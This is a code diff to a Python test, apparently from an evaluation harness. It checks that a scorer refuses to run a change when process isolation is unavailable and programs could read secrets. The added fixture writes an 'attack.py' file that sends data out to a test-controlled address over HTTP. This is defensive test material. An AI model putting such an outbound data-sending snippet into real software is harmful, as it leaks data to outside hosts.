@@ -244,6 +244,9 @@ def test_where_neither_can_be_had_a_change_is_not_evaluated_unless_the_risk_is_n
     job, home, scorer
 ):
     job.environ["PATH"] = without("setpriv")
+    # it could take the memory of every process here, which is gigabytes while other tests run
+    called = f"import urllib.request\nurllib.request.urlopen({home.address!r}, data=b'here')\n"
+    (job.workspace / "attack.py").write_text(called, encoding="utf-8")
     done = evaluated(job, scorer)
     assert (done.code, done.outputs["result"]) == (2, "failed")
     assert "rollout.programs_can_read_secrets" in done.log
